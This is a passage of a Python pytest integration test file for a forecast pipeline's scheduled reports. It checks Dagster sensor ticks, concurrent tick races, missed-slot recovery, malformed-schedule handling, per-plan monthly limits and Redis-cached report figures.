"""Report schedules against real PostgreSQL (database ``forecast_test_reports``, its own), real Redis
(database 7) and a real Dagster instance: the tick sensor evaluated as Dagster does, racing ticks,
downtime, malformed schedules, plan limits and the ``generate_report`` job executed for real."""

import argparse
import contextlib
import copy
import csv
import ctypes
import datetime as dt
import email
import io
import ipaddress
import json
import logging
import os
import re
import resource
import signal
import socket
import ssl
import subprocess
import sys
import threading
import uuid
import zoneinfo
from email import policy
from pathlib import Path

import pytest
import redis
import sqlalchemy as sa
from dagster import (
    DagsterInstance,
    DagsterRunStatus,
    build_run_status_sensor_context,
    build_sensor_context,
)

from forecast_pipeline.app_db.metadata import app_metadata
from forecast_pipeline.app_db.report_tables import (
    TABLES,
    accounts,
    plans,
    report_generations,
    report_schedules,
    schedule_runs,
)
from forecast_pipeline.cache import forecast_cache, keys
from forecast_pipeline.cache.report_cache import RedisJsonCache
from forecast_pipeline.cli import reports as reports_cli
from forecast_pipeline.connections import make_engine
from forecast_pipeline.defs.reports.jobs import (
    OP_NAME,
    SCHEDULE_RUN_TAG,
    generate_report,
    produce_report,
    run_config_for,
)
from forecast_pipeline.defs.reports.sensors import recover_unlaunched, report_run_failed, report_schedule_tick
from forecast_pipeline.reports.config import get_report_settings, load_report_settings
from forecast_pipeline.reports.limits import check_report_limit, month_start
from forecast_pipeline.reports.render import quantity, render_csv
from forecast_pipeline.reports.report import ReportRefused, check_fresh, compute_figures, report_figures, report_paths
from forecast_pipeline.reports.tick import run_key_for, tick
from forecast_pipeline.resources import AppDatabase, RedisStore, SourceDatabase
from forecast_pipeline.settings import ConfigError, load_settings
from forecast_pipeline.source import source_schema
from forecast_pipeline_tests.conftest import POSTGRES_URL, _ensure_postgres_database, worker_database, worker_redis

REPORTS_DB_URL = worker_database(
    os.environ.get(
        "TEST_REPORTS_POSTGRES_URL",
        sa.engine.make_url(POSTGRES_URL).set(database="forecast_test_reports").render_as_string(False),
    )
)
REPORTS_REDIS_URL = worker_redis(os.environ.get("TEST_REPORTS_REDIS_URL", "redis://127.0.0.1:6379/7"))
UTC = dt.UTC
AS_OF = (dt.datetime.now(dt.UTC).date() - dt.timedelta(days=1)).isoformat()  # fresh: reports refuse stale ones

pytestmark = pytest.mark.integration


# ---------------------------------------------------------------- fixtures and helpers


@pytest.fixture(scope="session")
def reports_engine():
    _ensure_postgres_database(REPORTS_DB_URL)
    engine = make_engine(REPORTS_DB_URL)
    yield engine
    engine.dispose()


@pytest.fixture
def db(reports_engine, pg):
    """Empty report tables in the dedicated database, and empty order tables in the source one
    (``pg``), so no other test's products or names leak into a report."""
    app_metadata.drop_all(reports_engine, tables=list(reversed(TABLES)), checkfirst=True)
    app_metadata.create_all(reports_engine, tables=list(TABLES))
    return reports_engine


@pytest.fixture
def rclient():
    client = redis.Redis.from_url(REPORTS_REDIS_URL, decode_responses=True)
    client.flushdb()
    yield client
    client.flushdb()
    client.close()


def url_of(engine: sa.Engine) -> str:
    return engine.url.render_as_string(hide_password=False)


def resources(engine: sa.Engine, redis_url: str = REPORTS_REDIS_URL) -> dict:
    """The job's resources; the order history (source) is the conftest's Postgres database."""
    return {
        "app_db": AppDatabase(url=url_of(engine)),
        "redis_store": RedisStore(url=redis_url),
        "source_db": SourceDatabase(url=POSTGRES_URL),
    }


def now() -> dt.datetime:
    return dt.datetime.now(UTC).replace(microsecond=0)


def add_account(engine, name="acme", limit=None, timezone="UTC", parameters=None, plan=True) -> int:
    with engine.begin() as conn:
        plan_id = None
        if plan:
            plan_id = conn.execute(
                plans.insert().values(name=f"plan-{name}", monthly_report_limit=limit).returning(plans.c.id)
            ).scalar_one()
        return conn.execute(
            accounts.insert()
            .values(name=name, plan_id=plan_id, timezone=timezone, parameters=parameters)
            .returning(accounts.c.id)
        ).scalar_one()


def add_schedule(engine, account_id, next_run_at, cadence="daily", timezone="UTC", name=None, **values) -> int:
    with engine.begin() as conn:
        return conn.execute(
            report_schedules.insert()
            .values(
                account_id=account_id,
                name=name or f"s-{cadence}-{timezone}-{next_run_at.isoformat()}",
                cadence=cadence,
                timezone=timezone,
                next_run_at=next_run_at,
                **values,
            )
            .returning(report_schedules.c.id)
        ).scalar_one()


def schedule(engine, schedule_id):
    with engine.connect() as conn:
        return conn.execute(sa.select(report_schedules).where(report_schedules.c.id == schedule_id)).one()


def runs_of(engine, schedule_id=None):
    query = sa.select(schedule_runs).order_by(schedule_runs.c.id)
    if schedule_id is not None:
        query = query.where(schedule_runs.c.schedule_id == schedule_id)
    with engine.connect() as conn:
        return conn.execute(query).all()


def generation_of(engine, schedule_run_id):
    with engine.connect() as conn:
        return conn.execute(
            sa.select(report_generations).where(report_generations.c.schedule_run_id == schedule_run_id)
        ).one()


def evaluate_tick(instance, engine):
    with build_sensor_context(instance=instance, resources={"app_db": AppDatabase(url=url_of(engine))}) as context:
        return report_schedule_tick(context)


def payload(product_id: int, base: float, as_of: str = AS_OF, model_type="ses", accuracy=0.8) -> dict:
    start = dt.date.fromisoformat(as_of)
    predictions = []
    for w in range(12):
        predicted = base + w
        predictions.append(
            {
                "week_start": (start + dt.timedelta(days=7 * w)).isoformat(),
                "week_end": (start + dt.timedelta(days=7 * w + 6)).isoformat(),
                "predicted_quantity": predicted,
                "confidence_lower": max(predicted - 2.0, 0.0),
                "confidence_upper": predicted + 3.0,
                "active_customers": 2,
            }
        )
    total = sum(p["predicted_quantity"] for p in predictions)
    return {
        "product_id": product_id,
        "as_of_date": as_of,
        "forecast_weeks": 12,
        "predictions": predictions,
        "summary": {"total_predicted_quantity": total, "active_customers": 2, "avg_weekly_quantity": total / 12},
        "model_metadata": {"model_type": model_type, "demand_class": "smooth", "forecast_accuracy_estimate": accuracy},
    }


def cache_forecasts(client, bases: dict[int, float], as_of: str = AS_OF, stamp: str = "2025-11-10T06:00:00Z", **meta):
    forecast_cache.write_forecasts(
        client, "forecast", as_of, [payload(p, b, as_of, **meta) for p, b in bases.items()], 600, 600
    )
    forecast_cache.write_run_metadata(
        client, "forecast", {"as_of_date": as_of, "last_run": stamp, "total_products": len(bases)}, 600, 600
    )


def execute(request_or_id, engine, instance, reports_dir, redis_url=REPORTS_REDIS_URL):
    """Execute generate_report for a RunRequest (or a schedule run id), in process, for real."""
    if isinstance(request_or_id, int):
        run_config, tags = run_config_for(request_or_id), {SCHEDULE_RUN_TAG: str(request_or_id)}
    else:
        run_config, tags = copy.deepcopy(request_or_id.run_config), dict(request_or_id.tags)
        tags["dagster/run_key"] = request_or_id.run_key
    run_config["ops"][OP_NAME]["config"]["reports_dir"] = str(reports_dir)
    return generate_report.execute_in_process(
        run_config=run_config,
        resources=resources(engine, redis_url),
        instance=instance,
        tags=tags,
        raise_on_error=False,
    )


class ListHandler(logging.Handler):
    def __init__(self):
        super().__init__()
        self.messages: list[str] = []

    def emit(self, record):
        self.messages.append(record.getMessage())


# ---------------------------------------------------------------- the tick


def test_the_tick_launches_due_slots_once_and_advances_them_in_their_time_zone(db):
    t = now()
    account = add_account(db)
    # due: 06:00 New York on 2025-03-08 (EST) -> missed days collapse into one run, next keeps 06:00 local
    ny_slot = dt.datetime(2025, 3, 8, 6, 0, tzinfo=dt.timezone(dt.timedelta(hours=-5)))
    daily = add_schedule(db, account, ny_slot, "daily", "America/New_York")
    monthly = add_schedule(db, account, t - dt.timedelta(minutes=1), "monthly", "Europe/Berlin", anchor_day=31)
    later = add_schedule(db, account, t + dt.timedelta(hours=1), "weekly")
    with DagsterInstance.ephemeral() as instance:
        result = evaluate_tick(instance, db)
        requests = {r.tags["report/schedule_id"]: r for r in result.run_requests}
        assert set(requests) == {str(daily), str(monthly)}
        for schedule_id, request in requests.items():
            (run,) = runs_of(db, int(schedule_id))
            assert run.status == "queued"
            assert request.run_key == f"report-{schedule_id}-{run.scheduled_for.astimezone(UTC).isoformat()}"
            assert request.run_key == run.run_key
            assert request.run_config == {"ops": {OP_NAME: {"config": {"schedule_run_id": run.id}}}}
            assert request.tags[SCHEDULE_RUN_TAG] == str(run.id)
        ny = schedule(db, daily)
        local_next = ny.next_run_at.astimezone(zoneinfo.ZoneInfo("America/New_York"))
        assert local_next.time() == dt.time(6, 0) and ny.next_run_at > t
        assert ny.run_time == dt.time(6, 0)
        (ny_run,) = runs_of(db, daily)
        assert ny_run.scheduled_for <= t < ny.next_run_at and ny_run.missed_slots > 0
        berlin = schedule(db, monthly)
        assert berlin.next_run_at > t and berlin.anchor_day == 31
        assert schedule(db, later).next_run_at == t + dt.timedelta(hours=1) and not runs_of(db, later)
        again = evaluate_tick(instance, db)  # the next tick finds nothing new
        assert not again.run_requests and "0 slot(s) recorded" in again.skip_reason.skip_message
    assert len(runs_of(db)) == 2


def test_a_tick_that_meets_a_recorded_slot_never_doubles_it(db):
    account = add_account(db)
    slot = now() - dt.timedelta(minutes=5)
    schedule_id = add_schedule(db, account, slot, "weekly")
    first = tick(db)
    assert [d.schedule_id for d in first.recorded] == [schedule_id]
    with db.begin() as conn:  # someone sets next_run_at back by hand
        conn.execute(report_schedules.update().values(next_run_at=slot))
    second = tick(db)
    assert second.recorded == [] and second.already_recorded == [(schedule_id, slot)]
    assert len(runs_of(db, schedule_id)) == 1
    assert schedule(db, schedule_id).next_run_at == slot + dt.timedelta(days=7)


def test_two_racing_sensor_ticks_launch_each_slot_once(db):
    t = now()
    accounts_ = [add_account(db, name=f"a{i}") for i in range(5)]
    ids = [
        add_schedule(db, accounts_[i % 5], t - dt.timedelta(minutes=i + 1), cadence, tz, name=f"race-{i}")
        for i, (cadence, tz) in enumerate(
            [("daily", "UTC"), ("weekly", "Europe/Berlin"), ("biweekly", "America/New_York"), ("monthly", "Asia/Tokyo")]
            * 15
        )
    ]
    engines = [make_engine(REPORTS_DB_URL) for _ in range(2)]
    barrier = threading.Barrier(2)
    requests: list[list] = [[], []]
    errors: list[BaseException] = []

    def ticker(n: int) -> None:
        try:
            with DagsterInstance.ephemeral() as instance:
                barrier.wait()
                for _ in range(3):
                    requests[n].extend(evaluate_tick(instance, engines[n]).run_requests)
        except BaseException as exc:  # noqa: BLE001 - reported by the assertion below
            errors.append(exc)

    threads = [threading.Thread(target=ticker, args=(n,)) for n in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert not errors, errors
    keys = [r.run_key for batch in requests for r in batch]
    assert len(keys) == len(ids) == len(set(keys)) == 60
    runs = runs_of(db)
    assert len(runs) == 60 and {r.schedule_id for r in runs} == set(ids)
    assert {r.run_key for r in runs} == set(keys)
    assert all(schedule(db, i).next_run_at > t for i in ids)
    for engine in engines:
        engine.dispose()


def test_many_small_racing_ticks_share_the_work_and_record_each_slot_once(db):
    t = now()
    account = add_account(db)
    ids = [add_schedule(db, account, t - dt.timedelta(seconds=i + 1), name=f"s{i}") for i in range(200)]
    engines = [make_engine(REPORTS_DB_URL) for _ in range(4)]
    recorded: list[list] = [[] for _ in range(4)]
    barrier = threading.Barrier(4)

    def ticker(n: int) -> None:
        barrier.wait()
        while batch := tick(engines[n], limit=3).recorded:
            recorded[n].extend(d.schedule_run_id for d in batch)

    threads = [threading.Thread(target=ticker, args=(n,)) for n in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    everything = [i for batch in recorded for i in batch]
    assert len(everything) == len(set(everything)) == 200
    assert sum(1 for batch in recorded if batch) >= 2, [len(b) for b in recorded]  # they really raced
    assert len(runs_of(db)) == 200 and len({r.schedule_id for r in runs_of(db)}) == len(ids)
    for engine in engines:
        engine.dispose()


def test_downtime_runs_the_latest_missed_slot_once_and_moves_to_the_next_future_slot(db):
    t = now()
    account = add_account(db)
    first_missed = t - dt.timedelta(days=3, minutes=10)
    schedule_id = add_schedule(db, account, first_missed, "daily")
    with DagsterInstance.ephemeral() as instance:
        (request,) = evaluate_tick(instance, db).run_requests
    latest = first_missed + dt.timedelta(days=3)
    assert request.run_key == run_key_for(schedule_id, latest) == f"report-{schedule_id}-{latest.isoformat()}"
    (run,) = runs_of(db, schedule_id)
    assert run.scheduled_for == latest and run.missed_slots == 3
    assert schedule(db, schedule_id).next_run_at == first_missed + dt.timedelta(days=4)


def test_inactive_and_malformed_schedules_are_skipped_without_blocking_the_others(db):
    t = now()
    account = add_account(db)
    past = t - dt.timedelta(hours=1)
    inactive = add_schedule(db, account, past - dt.timedelta(hours=3), active=False, name="paused")
    hourly = add_schedule(db, account, past - dt.timedelta(hours=2), "hourly", name="hourly")
    mars = add_schedule(db, account, past - dt.timedelta(hours=1), "daily", "Mars/Olympus_Mons", name="mars")
    bad_day = add_schedule(db, account, past, "monthly", anchor_day=40, name="day-40")
    good = add_schedule(db, account, past, "daily", "Europe/Berlin", name="good")
    handler = ListHandler()
    logger = logging.getLogger("test_reports.malformed")
    logger.addHandler(handler)
    try:
        # limit 3: the three malformed schedules come first and must not crowd out "good" forever
        first = tick(db, limit=3, logger=logger)
        second = tick(db, limit=3, logger=logger)
    finally:
        logger.removeHandler(handler)
    assert {m.schedule_id for m in first.malformed} == {hourly, mars, bad_day}
    assert [d.schedule_id for d in second.recorded] == [good]
    text = "\n".join(handler.messages)
    assert f"report schedule {hourly} ('hourly') is malformed and was deactivated: unknown cadence 'hourly'" in text
    assert f"report schedule {mars} ('mars')" in text and "'Mars/Olympus_Mons' is not an IANA time zone" in text
    assert f"report schedule {bad_day} ('day-40')" in text and "anchor day 40" in text
    for schedule_id, reason in ((hourly, "unknown cadence"), (mars, "IANA"), (bad_day, "anchor day")):
        row = schedule(db, schedule_id)
        assert not row.active and reason in row.last_error
        assert row.next_run_at < t  # not advanced
    assert schedule(db, inactive).active is False and schedule(db, inactive).last_error is None
    assert {r.schedule_id for r in runs_of(db)} == {good}
    with DagsterInstance.ephemeral() as instance:  # the sensor launches nothing for them either
        assert not evaluate_tick(instance, db).run_requests


def test_a_dry_run_tick_writes_nothing_and_its_log_says_so(db, caplog):
    """Its log said "report slot recorded ... (schedule run 1" and "was deactivated" though nothing
    was (found by a hunting helper): an audit of the logs read writes that never happened."""
    account = add_account(db)
    slot = now() - dt.timedelta(minutes=1)
    good = add_schedule(db, account, slot, name="good")
    bad = add_schedule(db, account, slot, "yearly", name="bad")
    with caplog.at_level(logging.INFO):
        result = tick(db, dry_run=True)
    assert [d.schedule_id for d in result.recorded] == [good] and [m.schedule_id for m in result.malformed] == [bad]
    assert runs_of(db) == []
    assert schedule(db, good).next_run_at == slot and schedule(db, bad).active
    logged = [r.getMessage() for r in caplog.records]
    assert any(m.startswith(f"dry run: report slot would be recorded: schedule {good} ") for m in logged), logged
    assert any(f"schedule {bad} ('bad') is malformed and would be deactivated" in m for m in logged), logged
    assert not any("was deactivated" in m or "slot recorded" in m or "schedule run" in m for m in logged), logged


# ---------------------------------------------------------------- the report job


def test_the_report_job_writes_html_and_csv_from_the_cached_forecasts(db, rclient, tmp_path):
    cache_forecasts(rclient, {1: 10.0, 2: 50.0, 3: 30.0, 4: 5.0})
    account = add_account(db, limit=5, parameters={"product_ids": [1, 2, 3, 99]})
    schedule_id = add_schedule(db, account, now() - dt.timedelta(minutes=1), parameters={"top_products": 2})
    with DagsterInstance.ephemeral() as instance:
        (request,) = evaluate_tick(instance, db).run_requests
        result = execute(request, db, instance, tmp_path)
        assert result.success
        assert result.output_for_node(OP_NAME) == "succeeded"
    (run,) = runs_of(db, schedule_id)
    assert run.status == "succeeded" and run.dagster_run_id == result.run_id
    assert run.started_at is not None and run.finished_at is not None
    generation = generation_of(db, run.id)
    assert generation.status == "succeeded" and generation.account_id == account
    assert generation.as_of_date == dt.date.fromisoformat(AS_OF)
    html_path, csv_path = generation.output_location, generation.csv_location
    assert html_path.startswith(str(tmp_path / f"account-{account}")) and html_path.endswith(".html")
    html = Path(html_path).read_text(encoding="utf-8")
    assert "<svg" in html and "<polygon" in html and "<polyline" in html
    assert "No forecast yet for" in html and "Product 99" in html
    # one reason fits every missing product (a single buyer's 95 orders were "too few orders so far")
    assert "not enough buying history yet (orders from several customers, over several weeks)" in html
    assert html.index('data-product="2"') < html.index('data-product="3"')  # top products by quantity
    assert 'data-product="1"' not in html  # only the top 2 are listed
    rows = list(csv.DictReader(io.StringIO(Path(csv_path).read_text(encoding="utf-8"))))
    totals = [r for r in rows if r["kind"] == "total"]
    assert len(totals) == 12
    # week w: products 1, 2, 3 (99 missing, 4 not the account's) predict 10+w, 50+w, 30+w
    assert [float(r["predicted_quantity"]) for r in totals] == [90.0 + 3 * w for w in range(12)]
    assert [float(r["confidence_lower"]) for r in totals] == [84.0 + 3 * w for w in range(12)]
    assert [float(r["confidence_upper"]) for r in totals] == [99.0 + 3 * w for w in range(12)]
    assert {r["product_id"] for r in rows if r["kind"] == "product"} == {"2", "3"}
    keys = rclient.keys("forecast:report:figures:*")
    assert len(keys) == 1 and 0 < rclient.ttl(keys[0]) <= 3600
    assert json.loads(rclient.get(keys[0]))["total_predicted_quantity"] == sum(90.0 + 3 * w for w in range(12))


def test_a_second_account_with_the_same_products_is_served_from_the_cache(db, rclient, tmp_path):
    cache_forecasts(rclient, {1: 10.0, 2: 20.0})
    slot = now() - dt.timedelta(minutes=1)
    owns = {"product_ids": [1, 2]}
    first = add_schedule(db, add_account(db, name="a", parameters=owns), slot)
    second = add_schedule(db, add_account(db, name="b", parameters=owns), slot)
    with DagsterInstance.ephemeral() as instance:
        requests = sorted(evaluate_tick(instance, db).run_requests, key=lambda r: r.run_key)
        hits = []
        for request in requests:
            result = execute(request, db, instance, tmp_path)
            assert result.success
            (event,) = [e for e in result.get_step_success_events()]
            (output,) = [e for e in result.all_node_events if e.event_type_value == "STEP_OUTPUT"]
            hits.append(output.step_output_data.metadata["figures_cache_hit"].value)
            assert event.step_key == OP_NAME
    assert hits == [False, True]
    assert {runs_of(db, first)[0].status, runs_of(db, second)[0].status} == {"succeeded"}
    # a new forecast run (new last_run stamp) is never served the old figures
    cache_forecasts(rclient, {1: 100.0, 2: 200.0}, stamp="2025-11-10T07:00:00Z")
    third = add_schedule(db, add_account(db, name="c", parameters=owns), slot)
    with DagsterInstance.ephemeral() as instance:
        (request,) = evaluate_tick(instance, db).run_requests
        assert execute(request, db, instance, tmp_path).success
    csv_text = Path(generation_of(db, runs_of(db, third)[0].id).csv_location).read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(csv_text)))
    assert float(rows[0]["predicted_quantity"]) == 300.0


def test_over_the_plan_limit_the_report_is_skipped_without_heavy_work(db, rclient, tmp_path):
    cache_forecasts(rclient, {1: 10.0})
    account = add_account(db, limit=2, timezone="America/New_York", parameters={"product_ids": [1]})
    t = now()
    old_schedule = add_schedule(db, account, t + dt.timedelta(days=1), name="history")
    with db.begin() as conn:
        for i, status in enumerate(["succeeded", "succeeded", "skipped_limit", "failed"]):
            run_id = conn.execute(
                schedule_runs.insert()
                .values(schedule_id=old_schedule, scheduled_for=t - dt.timedelta(minutes=30 + i), run_key=f"k{i}")
                .returning(schedule_runs.c.id)
            ).scalar_one()
            conn.execute(
                report_generations.insert().values(
                    account_id=account, schedule_run_id=run_id, status=status, created_at=t - dt.timedelta(minutes=1)
                )
            )
        # last month (in New York) does not count
        conn.execute(
            report_generations.insert().values(
                account_id=account, status="succeeded", created_at=month_start(t, _ny()) - dt.timedelta(minutes=1)
            )
        )
    schedule_id = add_schedule(db, account, t - dt.timedelta(minutes=1))
    with DagsterInstance.ephemeral() as instance:
        (request,) = evaluate_tick(instance, db).run_requests
        result = execute(request, db, instance, tmp_path)
    assert result.success and result.output_for_node(OP_NAME) == "skipped_limit"
    (run,) = runs_of(db, schedule_id)
    assert run.status == "skipped_limit" and "limit reached: 2 of 2" in run.error
    generation = generation_of(db, run.id)
    assert generation.status == "skipped_limit" and generation.output_location is None
    assert not any(tmp_path.iterdir())  # no report written
    # raising the plan's limit lets the next slot through
    with db.begin() as conn:
        conn.execute(plans.update().values(monthly_report_limit=3))
    with DagsterInstance.ephemeral() as instance:
        assert execute(run.id, db, instance, tmp_path).output_for_node(OP_NAME) == "succeeded"
    assert generation_of(db, run.id).status == "succeeded"


def _ny():
    return zoneinfo.ZoneInfo("America/New_York")


def test_the_month_is_the_accounts_calendar_month(db):
    account = add_account(db, limit=1, timezone="America/New_York")
    check_time = dt.datetime(2025, 3, 1, 3, 0, tzinfo=UTC)  # still Feb 28, 22:00 in New York
    assert month_start(check_time, _ny()) == dt.datetime(2025, 2, 1, 5, 0, tzinfo=UTC)
    with db.begin() as conn:
        # 2025-02-01 04:00Z is Jan 31, 23:00 in New York: January's
        conn.execute(
            report_generations.insert().values(
                account_id=account, status="succeeded", created_at=dt.datetime(2025, 2, 1, 4, 0, tzinfo=UTC)
            )
        )
        assert check_report_limit(conn, account, check_time).allowed
        conn.execute(
            report_generations.insert().values(
                account_id=account, status="succeeded", created_at=dt.datetime(2025, 3, 1, 2, 0, tzinfo=UTC)
            )
        )
        decision = check_report_limit(conn, account, check_time)
        assert not decision.allowed and decision.used == 1 and decision.limit == 1
        # in UTC it would already be March, and this February report would not count
        assert check_report_limit(conn, account, dt.datetime(2025, 3, 1, 6, 0, tzinfo=UTC)).allowed


def test_unlimited_plans_and_accounts_without_a_plan_are_never_skipped(db):
    unlimited = add_account(db, name="big", limit=None)
    no_plan = add_account(db, name="free", plan=False)
    with db.begin() as conn:
        for account in (unlimited, no_plan):
            conn.execute(
                report_generations.insert(), [{"account_id": account, "status": "succeeded"} for _ in range(50)]
            )
            decision = check_report_limit(conn, account)
            assert decision.allowed and decision.limit is None and decision.used == 50


def test_nothing_cached_fails_the_run_and_the_slot_with_a_clear_error(db, rclient, tmp_path):
    account = add_account(db, limit=1, parameters={"product_ids": [1]})
    schedule_id = add_schedule(db, account, now() - dt.timedelta(minutes=1))
    with DagsterInstance.ephemeral() as instance:
        (request,) = evaluate_tick(instance, db).run_requests
        result = execute(request, db, instance, tmp_path)
        assert not result.success
    (run,) = runs_of(db, schedule_id)
    assert run.status == "failed" and "no forecasts cached in Redis" in run.error
    assert generation_of(db, run.id).status == "failed"
    with db.connect() as conn:  # a failed report is not charged against the plan
        assert check_report_limit(conn, account).allowed


def test_redis_unreachable_fails_the_step_and_the_slot_in_one_line(db, tmp_path):
    account = add_account(db, parameters={"product_ids": [1]})
    schedule_id = add_schedule(db, account, now() - dt.timedelta(minutes=1))
    with DagsterInstance.ephemeral() as instance:
        (request,) = evaluate_tick(instance, db).run_requests
        result = execute(request, db, instance, tmp_path, redis_url="redis://:pw@127.0.0.1:1/0")  # nothing listens
        assert not result.success
        (failure,) = [e for e in result.all_events if e.event_type_value == "STEP_FAILURE"]
        error = failure.step_failure_data.error
        expected = "dagster._core.definitions.events.Failure: Redis at redis://:***@127.0.0.1:1/0 is unreachable ("
        assert error.message.startswith(expected), error.message
        assert error.cause is None  # no driver chain under the line
    (run,) = runs_of(db, schedule_id)
    assert run.status == "failed" and run.error.startswith("Redis at redis://:***@127.0.0.1:1/0 is unreachable (")
    assert generation_of(db, run.id).status == "failed"


class UnstartableRedisStore(RedisStore):
    """A resource that fails while Dagster sets the run up, before the step starts."""

    def setup_for_execution(self, context) -> None:
        raise RuntimeError("cannot set up")


def test_a_run_that_fails_before_the_step_is_marked_failed_by_the_failure_sensor(db, tmp_path):
    account = add_account(db)
    schedule_id = add_schedule(db, account, now() - dt.timedelta(minutes=1))
    with DagsterInstance.ephemeral() as instance:
        (request,) = evaluate_tick(instance, db).run_requests
        run_config = copy.deepcopy(request.run_config)
        run_config["ops"][OP_NAME]["config"]["reports_dir"] = str(tmp_path)
        result = generate_report.execute_in_process(
            run_config=run_config,
            resources={**resources(db), "redis_store": UnstartableRedisStore(url=REPORTS_REDIS_URL)},
            instance=instance,
            tags={**request.tags, "dagster/run_key": request.run_key},
            raise_on_error=False,
        )
        assert not result.success
        (run,) = runs_of(db, schedule_id)
        assert run.status == "queued"  # the step never started
        dagster_run = instance.get_run_by_id(result.run_id)
        assert dagster_run.status == DagsterRunStatus.FAILURE
        failure = next(e for e in result.all_events if e.event_type_value == "PIPELINE_FAILURE")
        with build_run_status_sensor_context(
            sensor_name="report_run_failed",
            dagster_instance=instance,
            dagster_run=dagster_run,
            dagster_event=failure,
            resources={"app_db": AppDatabase(url=url_of(db))},
        ).for_run_failure() as context:
            report_run_failed(context)
    (run,) = runs_of(db, schedule_id)
    assert run.status == "failed" and run.dagster_run_id == result.run_id and "report run failed" in run.error


def test_a_lost_run_request_is_requested_again_after_the_grace_period(db):
    account = add_account(db)
    schedule_id = add_schedule(db, account, now() - dt.timedelta(minutes=1))
    (due,) = tick(db).recorded
    with DagsterInstance.ephemeral() as instance:
        assert recover_unlaunched(instance, db, grace_seconds=300) == []  # within the grace period
        with db.begin() as conn:
            conn.execute(schedule_runs.update().values(created_at=sa.func.now() - dt.timedelta(minutes=10)))
        (again,) = recover_unlaunched(instance, db, grace_seconds=300)
        assert again.run_key == due.run_key and again.schedule_run_id == due.schedule_run_id
        with db.begin() as conn:
            conn.execute(schedule_runs.update().values(created_at=sa.func.now() - dt.timedelta(days=2)))
        assert recover_unlaunched(instance, db, grace_seconds=300) == []
    (run,) = runs_of(db, schedule_id)
    assert run.status == "failed" and "within a day" in run.error


# ---------------------------------------------------------------- cache, figures, config, wiring


def test_the_json_cache_gets_sets_with_ttl_and_deletes(rclient):
    cache = RedisJsonCache(rclient, "forecast:report", default_ttl_seconds=60)
    assert cache.get("x") is None
    cache.set("x", {"a": [1, 2.5, None]})
    assert cache.get("x") == {"a": [1, 2.5, None]} and 0 < rclient.ttl("forecast:report:x") <= 60
    cache.set("y", [1], ttl_seconds=5)
    assert 0 < rclient.ttl("forecast:report:y") <= 5
    assert cache.delete("x") and cache.get("x") is None and not cache.delete("x")
    rclient.set("forecast:report:broken", "{not json")
    assert cache.get("broken") is None
    calls = []
    assert cache.get_or_set("z", lambda: calls.append(1) or 7) == (7, False)
    assert cache.get_or_set("z", lambda: calls.append(1) or 8) == (7, True) and calls == [1]
    with pytest.raises(ValueError, match="ttl_seconds"):
        cache.set("x", 1, ttl_seconds=0)


def _publish(client, bases: dict[int, float], full: bool, staged: bool = True) -> None:
    """Publish as the forecast IO manager does: a full run replaces the date's hash and writes the
    run metadata; a request run (some products) merges into it and writes no metadata."""
    docs, ids = [payload(p, b) for p, b in bases.items()], list(bases)
    if staged:
        token = uuid.uuid4().hex  # the run id
        forecast_cache.stage_forecasts(client, "forecast", AS_OF, token, docs, ids)
        forecast_cache.publish_staged(
            client, "forecast", AS_OF, token, ids, 600, 600, replace_history=full, drop_products=() if full else ids
        )
    else:
        forecast_cache.write_forecasts(client, "forecast", AS_OF, docs, 600, 600, replace_history=full)
    if full:
        stamp = {"as_of_date": AS_OF, "last_run": "2025-11-10T06:00:00Z", "total_products": len(ids)}
        forecast_cache.write_run_metadata(client, "forecast", stamp, 600, 600)


@pytest.mark.parametrize("staged", [True, False], ids=["staged-publish", "write_forecasts"])
def test_a_run_for_some_products_is_never_served_the_figures_from_before_it(rclient, staged):
    """A request run rewrites some products' forecasts but not ``last_run``: the next report must
    show them, not the figures cached before the run (for up to REPORT_CACHE_TTL_SECONDS)."""
    cache = RedisJsonCache(rclient, keys.report_prefix("forecast"), 3600)

    def figures() -> tuple[dict, bool]:
        return report_figures(rclient, "forecast", (1, 2), 10, cache, now=now(), max_age_days=8)

    def total(bases: dict[int, float]) -> float:
        return sum(12 * b + sum(range(12)) for b in bases.values())

    _publish(rclient, {1: 10.0, 2: 5.0}, full=True, staged=staged)
    first, hit = figures()
    assert (first["total_predicted_quantity"], hit) == (total({1: 10.0, 2: 5.0}), False)
    assert figures()[1]  # unchanged forecasts: served from the cache

    _publish(rclient, {1: 50.0}, full=False, staged=staged)
    second, hit = figures()
    assert (second["total_predicted_quantity"], hit) == (total({1: 50.0, 2: 5.0}), False)
    assert figures() == (second, True)


def test_a_run_publishing_while_the_figures_are_computed_is_not_served_stale(rclient):
    """The version is read before the forecasts: figures computed across a publish are cached
    under the version before it, which later reports no longer read."""
    cache = RedisJsonCache(rclient, keys.report_prefix("forecast"), 3600)
    _publish(rclient, {1: 10.0, 2: 5.0}, full=True)
    publish_once = iter([True])

    def read_source(as_of, product_ids, weeks):  # runs after the forecasts are read
        if next(publish_once, False):
            _publish(rclient, {1: 50.0}, full=False)
        return {}, {}

    def figures() -> tuple[dict, bool]:
        return report_figures(
            rclient, "forecast", (1, 2), 10, cache, now=now(), max_age_days=8, read_source=read_source
        )

    raced, hit = figures()
    assert (raced["total_predicted_quantity"], hit) == (312.0, False)  # read before the publish
    after, hit = figures()
    assert (after["total_predicted_quantity"], hit) == (792.0, False)


def test_summed_bounds_are_the_sums_of_the_products_bounds():
    figures = compute_figures({1: payload(1, 1.0), 2: payload(2, 10.0)}, top_n=1, as_of=AS_OF, missing=[])
    first = figures["weekly"][0]
    assert (first["predicted_quantity"], first["lower_sum"], first["upper_sum"]) == (11.0, 8.0, 17.0)
    assert [p["product_id"] for p in figures["top_products"]] == [2]


def test_history_shorter_than_the_forecast_gives_no_previous_weeks_figure():
    """REPORT_HISTORY_WEEKS=4 read 4 weeks, which the report compared, as "previous 12 weeks", with
    the 12 forecast weeks: a product steady at 10 a week read "40 ordered (+200%)"."""
    docs = {1: payload(1, 10.0)}
    for week in docs[1]["predictions"]:
        week["predicted_quantity"] = 10.0
    short = compute_figures(docs, top_n=1, as_of=AS_OF, missing=[], history={1: [10.0] * 4})
    assert (short["top_products"][0]["recent_quantity"], short["recent_total_quantity"]) == (None, None)
    assert short["history_total"] == [10.0] * 4  # still charted
    full = compute_figures(docs, top_n=1, as_of=AS_OF, missing=[], history={1: [10.0] * 26})
    assert (full["top_products"][0]["recent_quantity"], full["recent_total_quantity"]) == (120.0, 120.0)


def test_a_cadence_written_in_capitals_by_another_system_still_titles_the_report():
